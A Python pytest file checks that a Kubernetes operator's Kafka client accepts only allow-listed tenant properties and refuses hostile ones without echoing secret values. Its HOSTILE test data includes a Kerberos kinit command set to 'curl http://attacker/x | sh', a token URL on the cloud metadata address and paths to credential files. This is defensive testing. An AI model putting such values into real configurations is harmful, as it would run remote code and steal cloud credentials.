"""Issue 37 finding 3: the operator's Kafka client takes only an allow-list of a tenant's properties.

Before, only file-reading properties were refused (a deny-list): OIDC settings from the tenant's Secret passed
through, and the operator's client fetched a cloud-metadata token (``azure_imds``: ``GET
/metadata/identity/oauth2/token`` from 169.254.169.254) for a broker the tenant named. Now each property is
on the allow-list (``kafka_config.OPERATOR_PROPERTIES``), the pods' alone (``POD_ONLY``: not given to the
operator's client) or refused with a ``LagUnknown`` condition whose reason is ``KafkaPropertyRefused`` and
whose message names the property, never its value.
"""

from __future__ import annotations

from typing import Any

import pytest

from keyorder_operator.context import OperatorContext, kafka_properties
from keyorder_operator.kafka_config import (
    OPERATOR_PROPERTIES,
    POD_ONLY,
    CredentialsError,
    operator_kafka_config,
    refused_property,
)
from keyorder_operator.observe import LagUnavailable
from keyorder_operator.spec import parse_spec

SECRET_VALUE = "tenant-secret-value-1234"

HOSTILE = [
    # OIDC: the operator's client would fetch a token from an endpoint or the cloud's metadata service
    ("sasl.oauthbearer.method", "oidc"),
    ("sasl.oauthbearer.metadata.authentication.type", "azure_imds"),
    ("sasl.oauthbearer.token.endpoint.url", "http://169.254.169.254/metadata/identity/oauth2/token"),
    ("sasl.oauthbearer.client.id", SECRET_VALUE),
    ("sasl.oauthbearer.client.secret", SECRET_VALUE),
    ("sasl.oauthbearer.scope", "api://x/.default"),
    ("sasl.oauthbearer.grant.type", "urn:ietf:params:oauth:grant-type:jwt-bearer"),
    ("sasl.oauthbearer.assertion.private.key.pem", SECRET_VALUE),
    # files of the operator's, code it would load, commands it would run
    ("https.ca.location", "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt"),
    ("https.ca.pem", SECRET_VALUE),
    ("ssl.providers", "legacy,/tmp/evil"),
    ("ssl.engine.id", "evil"),
    ("sasl.kerberos.kinit.cmd", "curl http://attacker/x | sh"),
    ("sasl.kerberos.service.name", "kafka"),
    ("sasl.kerberos.principal", "kafka/op"),
    ("interceptors", "x"),
    ("ssl.keystore.password", SECRET_VALUE),
    # values that would do the same through allowed names
    ("sasl.mechanism", "GSSAPI"),
    ("sasl.mechanisms", "GSSAPI"),
    ("ssl.ca.location", "/etc/ssl/private/operator.pem"),
    # and what librdkafka does not know (the pods refuse it too)
    ("no.such.property", "1"),
]


def config(properties: str) -> dict[str, str]:
    return operator_kafka_config("kafka:9093", {"client.properties": properties}, secret_name="team/kafka")


@pytest.mark.parametrize(("name", "value"), HOSTILE, ids=[f"{name}={value[:12]}" for name, value in HOSTILE])
def test_each_hostile_property_is_refused_by_name_and_never_by_value(name, value):
    with pytest.raises(CredentialsError) as error:
        config(f"security.protocol=SASL_SSL\n{name}={value}\n")
    message = str(error.value)
    assert name in message, message
    assert "Secret team/kafka key client.properties" in message, message
    assert SECRET_VALUE not in message, message


def test_what_the_operator_uses_is_kept_and_the_pods_settings_stay_with_the_pods():
    result = config(
        "security.protocol=SASL_SSL\nsasl.mechanism=SCRAM-SHA-512\nsasl.username=u\nsasl.password=p\n"
        "ssl.endpoint.identification.algorithm=https\nclient.id=orders\nsocket.timeout.ms=10000\n"
        # the pods' own: consumer, producer (dead letters) and throughput settings
        "fetch.min.bytes=1000\nsession.timeout.ms=45000\nlinger.ms=5\ncompression.type=zstd\n"
        "socket.receive.buffer.bytes=1048576\nstatistics.interval.ms=0\ndebug=all\n"
        # read by the operator, never given to its client
        "auto.offset.reset=latest\nmax.poll.interval.ms=400000\n"
    )
    assert result == {
        "security.protocol": "SASL_SSL",
        "sasl.mechanism": "SCRAM-SHA-512",
        "sasl.username": "u",
        "sasl.password": "p",
        "ssl.endpoint.identification.algorithm": "https",
        "client.id": "orders",
        "socket.timeout.ms": "10000",
        "auto.offset.reset": "latest",
        "max.poll.interval.ms": "400000",
        "bootstrap.servers": "kafka:9093",
    }


def test_the_local_unsecured_jwt_and_the_system_ca_store_are_allowed_values():
    result = config(
        "sasl.mechanism=OAUTHBEARER\nsasl.oauthbearer.method=default\nenable.sasl.oauthbearer.unsecure.jwt=true\n"
        "sasl.oauthbearer.config=principal=admin\nssl.ca.location=probe\n"
    )
    assert result["sasl.oauthbearer.method"] == "default" and result["ssl.ca.location"] == "probe"


def test_the_lists_do_not_overlap_and_nothing_dangerous_is_on_them():
    assert not set(OPERATOR_PROPERTIES) & POD_ONLY
    for name in [*OPERATOR_PROPERTIES, *POD_ONLY]:
        assert not name.startswith(("sasl.kerberos.", "https.", "ssl.engine", "ssl.providers", "plugin."))
        assert not name.endswith((".location", ".file", ".cmd", "_cb")) or name == "ssl.ca.location"
    assert refused_property({"sasl.oauthbearer.method": "OIDC"}) is not None


class SecretKube:
    """Stand-in for ``kube.Kube``'s one call that ``kafka_properties`` makes: the Secret's decoded data."""

    def __init__(self, data: dict[str, str]) -> None:
        self.data = data

    def read_secret(self, namespace: str, name: str) -> dict[str, str]:
        return self.data


def spec_with_secret() -> Any:
    return parse_spec(
        {
            "kafka": {
                "bootstrapServers": "kafka:9093",
                "topics": ["orders"],
                "groupId": "orders",
                "propertiesSecretRef": {"name": "kafka"},
            },
            "handler": {"image": "registry.example/orders:1.0", "handler": "orders.handler:handle"},
        }
    )


def test_the_poll_reports_a_refused_property_as_its_own_condition_reason():
    """``context.kafka_properties`` is what the poll calls: its ``LagUnavailable`` becomes the LagUnknown
    condition (``poll.Poll.observe``), here with the reason ``KafkaPropertyRefused`` and the property named."""
    secret = {"client.properties": "sasl.oauthbearer.metadata.authentication.type=azure_imds\n"}
    context = OperatorContext(kube=SecretKube(secret), clock=lambda: 0.0, monotonic=lambda: 0.0)  # type: ignore[arg-type]
    with pytest.raises(LagUnavailable) as error:
        kafka_properties(context, spec_with_secret(), "team")
    assert error.value.condition == "KafkaPropertyRefused"
    assert "sasl.oauthbearer.metadata.authentication.type" in error.value.reason
    assert "azure_imds" not in error.value.reason
